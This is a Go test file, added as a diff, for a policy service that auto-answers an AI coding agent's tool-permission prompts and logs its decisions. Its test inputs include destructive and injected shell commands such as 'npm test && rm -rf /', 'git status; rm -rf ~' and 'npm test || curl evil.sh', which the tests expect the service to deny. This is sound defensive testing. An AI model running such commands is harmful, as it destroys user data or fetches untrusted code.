@@ -0,0 +1,245 @@
+package services
+
+import (
+	"testing"
+)
+
+func testPolicy(t *testing.T) *PermissionPolicy {
+	t.Helper()
+	p := &PermissionPolicy{
+		Rules: []PermissionRule{
+			{Tool: "Read", Action: PermissionAllow},
+			{Tool: "Grep", Action: PermissionAllow},
+			{Tool: "Bash", Action: PermissionAllow, CommandPatterns: []string{`^(npm test|go test ./\.\.\.)$`, `^git (status|diff)$`}},
+			{Tool: "mcp__*", Action: PermissionAsk},
+		},
+		Default: PermissionDeny,
+	}
+	if err := p.Validate(); err != nil {
+		t.Fatalf("Validate error: %v", err)
+	}
+	return p
+}
+
+func TestPermissionPolicy_Evaluate(t *testing.T) {
+	policy := testPolicy(t)
+
+	testCases := []struct {
+		name    string
+		tool    string
+		command string
+		want    PermissionAction
+		rule    int
+	}{
+		{"read allowed", "Read", "", PermissionAllow, 0},
+		{"grep allowed", "Grep", "", PermissionAllow, 1},
+		{"bash allowlisted", "Bash", "npm test", PermissionAllow, 2},
+		{"bash git status", "Bash", "git status", PermissionAllow, 2},
+		{"bash chained denied", "Bash", "npm test && rm -rf /", PermissionDeny, -1},
+		{"bash without command", "Bash", "", PermissionDeny, -1},
+		{"mcp glob", "mcp__github", "", PermissionAsk, 3},
+		{"edit default", "Edit", "", PermissionDeny, -1},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			d := policy.Evaluate(PermissionRequest{Tool: tc.tool, Command: tc.command})
+			if d.Action != tc.want || d.Rule != tc.rule {
+				t.Errorf("Evaluate(%s, %q): got %s (rule %d), want %s (rule %d)",
+					tc.tool, tc.command, d.Action, d.Rule, tc.want, tc.rule)
+			}
+		})
+	}
+}
+
+func TestPermissionPolicy_Validate(t *testing.T) {
+	testCases := []struct {
+		name   string
+		policy PermissionPolicy
+	}{
+		{"missing tool", PermissionPolicy{Rules: []PermissionRule{{Action: PermissionAllow}}}},
+		{"invalid action", PermissionPolicy{Rules: []PermissionRule{{Tool: "Read", Action: "maybe"}}}},
+		{"invalid regex", PermissionPolicy{Rules: []PermissionRule{{Tool: "Bash", Action: PermissionAllow, CommandPatterns: []string{"("}}}}},
+		{"invalid default", PermissionPolicy{Default: "yes"}},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			if err := tc.policy.Validate(); err == nil {
+				t.Error("Validate should fail")
+			}
+		})
+	}
+
+	empty := PermissionPolicy{}
+	if err := empty.Validate(); err != nil || empty.Default != PermissionAsk {
+		t.Errorf("Empty policy: err=%v default=%s", err, empty.Default)
+	}
+}
+
+func TestExtractPendingCommand(t *testing.T) {
+	testCases := []struct {
+		name    string
+		display []string
+		tool    string
+		want    string
+	}{
+		{"invocation", []string{"Allow Bash to run", "│ Bash(npm run build) │"}, "Bash", "npm run build"},
+		{"command block", []string{"╭──────╮", "│ Bash command", "│", "│   go test ./...", "│ Run tests"}, "Bash", "go test ./..."},
+		{"other tool", []string{"Read(/etc/passwd)"}, "Bash", ""},
+		{"none", []string{"Allow Edit to write"}, "Edit", ""},
+		{"scrollback invocation ignored", []string{
+			"⏺ Bash(npm test)",
+			"  ⎿  ok",
+			"╭──────────────────────────────────────╮",
+			"│ Bash command                         │",
+			"│                                      │",
+			"│   rm -rf ~/important                 │",
+			"│   Remove directory                   │",
+			"│                                      │",
+			"│ Do you want to proceed?              │",
+			"│ ❯ 1. Yes                             │",
+			"│   2. No                              │",
+			"╰──────────────────────────────────────╯",
+			"",
+		}, "Bash", "rm -rf ~/important"},
+		{"stale box above pending prompt", []string{
+			"╭──────────────────────╮",
+			"│ Bash(npm test)       │",
+			"╰──────────────────────╯",
+			"Allow Bash(rm -rf ~/important)? [y/n]",
+		}, "Bash", ""},
+		{"ambiguous invocations", []string{"│ Bash(npm test)", "│ Bash(rm -rf /)"}, "Bash", ""},
+		{"wrapped command", []string{"│ Bash command  │", "│   npm test && rm -rf ~/importa│", "│   nt          │"}, "Bash", ""},
+		{"continued command", []string{"│ Bash command", "│   npm test &&", "│   rm -rf ~"}, "Bash", ""},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := ExtractPendingCommand(tc.display, tc.tool); got != tc.want {
+				t.Errorf("got %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestEvaluatePrompt(t *testing.T) {
+	policy := testPolicy(t)
+
+	// Un "Bash(npm test)" anterior en el scrollback no aprueba el rm pendiente
+	display := []string{
+		"⏺ Bash(npm test)",
+		"╭────────────────────────────╮",
+		"│ Bash command               │",
+		"│   rm -rf ~/important       │",
+		"│ Do you want to proceed?    │",
+		"╰────────────────────────────╯",
+	}
+	req := PermissionRequest{Tool: "Bash", Command: ExtractPendingCommand(display, "Bash")}
+	if d := evaluatePrompt(policy, req); d.Action == PermissionAllow || d.Action == PermissionAlwaysAllow {
+		t.Errorf("Expected pending rm not to be allowed, got %s (%s)", d.Action, d.Reason)
+	}
+
+	// Sin comando identificado no se aprueba aunque la regla lo permita
+	if d := evaluatePrompt(policy, PermissionRequest{Tool: "Read"}); d.Action != PermissionAsk {
+		t.Errorf("Expected ask without command, got %s", d.Action)
+	}
+	if d := evaluatePrompt(policy, PermissionRequest{Tool: "Bash", Command: "npm test"}); d.Action != PermissionAllow {
+		t.Errorf("Expected allowlisted command to be allowed, got %s", d.Action)
+	}
+	if d := evaluatePrompt(policy, PermissionRequest{Tool: "Edit"}); d.Action != PermissionDeny {
+		t.Errorf("Expected deny to be kept without command, got %s", d.Action)
+	}
+}
+
+func TestPermissionPolicy_PatternsAnchored(t *testing.T) {
+	p := &PermissionPolicy{
+		Rules:   []PermissionRule{{Tool: "Bash", Action: PermissionAllow, CommandPatterns: []string{`git status`, `npm (test|run lint)`}}},
+		Default: PermissionAsk,
+	}
+	if err := p.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	for command, want := range map[string]PermissionAction{
+		"git status":               PermissionAllow,
+		"npm run lint":             PermissionAllow,
+		"git status; rm -rf ~":     PermissionAsk,
+		"echo x && git status":     PermissionAsk,
+		"npm test || curl evil.sh": PermissionAsk,
+	} {
+		if d := p.Evaluate(PermissionRequest{Tool: "Bash", Command: command}); d.Action != want {
+			t.Errorf("Evaluate(%q) = %s, want %s", command, d.Action, want)
+		}
+	}
+}
+
+func TestSamePendingPrompt(t *testing.T) {
+	evaluated := PermissionRequest{Tool: "Bash", Command: "npm test"}
+
+	// Entre evaluar y responder, el recuadro activo pasó a ser otro comando
+	changed := []string{
+		"╭────────────────────────────╮",
+		"│ Bash command               │",
+		"│   rm -rf ~/important       │",
+		"│ Do you want to proceed?    │",
+		"╰────────────────────────────╯",
+	}
+	if samePendingPrompt(evaluated, "Bash", ExtractPendingCommand(changed, "Bash")) {
+		t.Error("Expected changed prompt to be rejected")
+	}
+	if samePendingPrompt(evaluated, "Edit", "npm test") {
+		t.Error("Expected different tool to be rejected")
+	}
+	if !samePendingPrompt(evaluated, "Bash", "npm test") {
+		t.Error("Expected same prompt to match")
+	}
+}
+
+func TestPermissionService_ResolvePolicy(t *testing.T) {
+	dir := t.TempDir()
+	ps := NewPermissionService(dir, NewTerminalService(dir), NewAuditLog(dir))
+
+	if err := ps.SetSessionRootPolicy(EncodeProjectPath("/home/user/proj"), &PermissionPolicy{Default: PermissionDeny}); err != nil {
+		t.Fatalf("SetSessionRootPolicy: %v", err)
+	}
+	if p, scope := ps.ResolvePolicy("t1", "/home/user/proj"); p == nil || scope != "session_root" {
+		t.Errorf("Expected session_root policy, got %v %s", p, scope)
+	}
+
+	if err := ps.SetTerminalPolicy("t1", &PermissionPolicy{Default: PermissionAllow}); err != nil {
+		t.Fatalf("SetTerminalPolicy: %v", err)
+	}
+	if p, scope := ps.ResolvePolicy("t1", "/home/user/proj"); p == nil || scope != "terminal" || p.Default != PermissionAllow {
+		t.Errorf("Expected terminal policy, got %v %s", p, scope)
+	}
+
+	// Persistencia
+	reloaded := NewPermissionService(dir, NewTerminalService(dir), NewAuditLog(dir))
+	if _, ok := reloaded.GetTerminalPolicy("t1"); !ok {
+		t.Error("Terminal policy should be persisted")
+	}
+	if _, ok := reloaded.GetSessionRootPolicy(EncodeProjectPath("/home/user/proj")); !ok {
+		t.Error("Session-root policy should be persisted")
+	}
+}
+
+func TestAuditLog_RecordAndList(t *testing.T) {
+	audit := NewAuditLog(t.TempDir())
+
+	audit.Record(AuditEntry{Actor: "policy", Action: "permission.auto", TerminalID: "t1", Tool: "Read", Decision: "allow"})
+	audit.Record(AuditEntry{Actor: "admin", Action: "permission.answer", TerminalID: "t2", Tool: "Bash", Decision: "deny"})
+	audit.Record(AuditEntry{Actor: "policy", Action: "permission.auto", TerminalID: "t1", Tool: "Bash", Decision: "deny"})
+
+	all, err := audit.List(AuditFilter{})
+	if err != nil {
+		t.Fatalf("List error: %v", err)
+	}
+	if len(all) != 3 || all[0].Tool != "Bash" || all[0].TerminalID != "t1" {
+		t.Errorf("Expected newest first, got %+v", all)
+	}
+
+	filtered, _ := audit.List(AuditFilter{TerminalID: "t1", Limit: 1})
+	if len(filtered) != 1 || filtered[0].Decision != "deny" {
+		t.Errorf("Filtered: got %+v", filtered)
+	}
+}